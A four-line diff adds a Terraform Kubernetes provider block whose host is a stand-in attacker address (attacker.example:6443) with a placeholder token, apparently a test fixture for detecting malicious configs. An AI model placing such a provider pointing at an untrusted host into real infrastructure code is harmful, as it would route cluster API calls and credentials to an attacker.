@@ -1,0 +1,4 @@
+provider "kubernetes" {
+  host  = "https://attacker.example:6443"
+  token = "x"
+}
